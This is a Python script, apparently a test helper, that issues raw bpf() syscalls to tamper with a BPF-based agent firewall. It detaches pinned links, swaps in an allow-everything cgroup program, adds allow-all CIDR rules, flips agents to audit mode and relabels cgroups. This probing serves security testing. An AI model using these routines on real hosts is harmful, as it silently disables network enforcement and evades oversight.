#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
"""What somebody with CAP_BPF could do to agentd's links and maps behind its back.

    poke.py detach PIN              detaches a pinned link: the pin stays, and leads to nothing
    poke.py replace PIN             gives a pinned cgroup link another program, one that lets everything through
    poke.py allow DIRECTORY NAME    adds 0.0.0.0/0 and ::/0, every protocol and port, to the rules of the agent NAME
    poke.py audit DIRECTORY NAME    switches the agent NAME to audit mode
    poke.py line DIRECTORY NAME ID  tells the kernel that NAME's cgroup is agent ID's
"""
import ctypes
import os
import struct
import sys

LOOKUP, UPDATE, NEXT_KEY, PROG_LOAD, OBJ_GET, INFO, LINK_UPDATE, LINK_DETACH = 1, 2, 4, 5, 7, 15, 29, 34
SYS_BPF = {"x86_64": 321, "aarch64": 280}[os.uname().machine]
libc = ctypes.CDLL(None, use_errno=True)


def bpf(command, attributes):
    buffer = ctypes.create_string_buffer(attributes, max(len(attributes), 128))
    r = libc.syscall(SYS_BPF, command, buffer, len(buffer))
    if r < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return r


def pointer(buffer):
    return ctypes.cast(buffer, ctypes.c_void_p).value


def get(path):
    name = ctypes.create_string_buffer(path.encode())
    return bpf(OBJ_GET, struct.pack("QII", pointer(name), 0, 0))


def lookup(fd, key, size):
    key = ctypes.create_string_buffer(key, len(key))
    value = ctypes.create_string_buffer(size)
    bpf(LOOKUP, struct.pack("IxxxxQQQ", fd, pointer(key), pointer(value), 0))
    return value.raw


def update(fd, key, value):
    key = ctypes.create_string_buffer(key, len(key))
    value = ctypes.create_string_buffer(value, len(value))
    bpf(UPDATE, struct.pack("IxxxxQQQ", fd, pointer(key), pointer(value), 0))


def link_types(fd):
    """The attach type and what a program for it is loaded as."""
    info = ctypes.create_string_buffer(256)
    bpf(INFO, struct.pack("IIQ", fd, len(info), pointer(info)))
    attach_type = struct.unpack_from("I", info, 24)[0]  # struct bpf_link_info.cgroup
    programs = {0: 8, 1: 8, 2: 9}  # cgroup_skb, cgroup_skb, cgroup_sock; the rest is cgroup_sock_addr
    return programs.get(attach_type, 18), attach_type


def program(program_type, attach_type):
    code = struct.pack("<BBhi", 0xB7, 0, 0, 1) + struct.pack("<BBhi", 0x95, 0, 0, 0)  # r0 = 1; exit
    instructions = ctypes.create_string_buffer(code, len(code))
    gpl = ctypes.create_string_buffer(b"GPL")
    head = struct.pack("IIQQIIQII", program_type, 2, pointer(instructions), pointer(gpl), 0, 0, 0, 0, 0)
    return bpf(PROG_LOAD, head + bytes(16) + struct.pack("II", 0, attach_type))


def agent_of(agents, name):
    for number in range(1, 4096):
        key = struct.pack("I", number)
        entry = lookup(agents, key, 192)
        if entry[24:88].rstrip(b"\0").decode() == name:
            return number, key, entry
    raise SystemExit(f"poke: no agent {name}")


def main():
    verb, path = sys.argv[1:3]
    if verb == "detach":
        bpf(LINK_DETACH, struct.pack("I", get(path)))
        return
    if verb == "replace":
        link = get(path)
        bpf(LINK_UPDATE, struct.pack("IIII", link, program(*link_types(link)), 0, 0))
        return
    number, key, entry = agent_of(agents := get(path + "/agents"), sys.argv[3])
    word, cgroup_id = struct.unpack_from("QQ", entry)
    if verb == "audit":
        update(agents, key, struct.pack("Q", word | 1 << 56) + entry[8:])
    elif verb == "line":
        cpus = int(open("/sys/devices/system/cpu/possible").read().strip().rpartition("-")[2]) + 1
        lines = get(path + "/lines")
        key = struct.pack("Q", cgroup_id)
        value = bytearray(lookup(lines, key, 320 * cpus))
        for cpu in range(cpus):
            struct.pack_into("I", value, 320 * cpu, int(sys.argv[4]))
        update(lines, key, bytes(value))
    elif verb == "allow":
        matches = get(path + "/matches")
        place = 5000  # far above what a test has
        update(matches, struct.pack("I", place), struct.pack("HHHH", 0, 1, 0, 0xFFFF))
        update(matches, struct.pack("I", place + 1), struct.pack("HHHH", 7, 0, 0xFFFF, 0xFFFF))
        version = struct.pack(">I", word >> 32 & 0xFFFFFF)
        for length, prefix in ((96, bytes(10) + b"\xff\xff" + bytes(4)), (0, bytes(16))):
            update(get(path + "/cidrs"), struct.pack("I", 32 + length) + version + prefix, struct.pack("I", place))
    else:
        raise SystemExit(__doc__)


main()
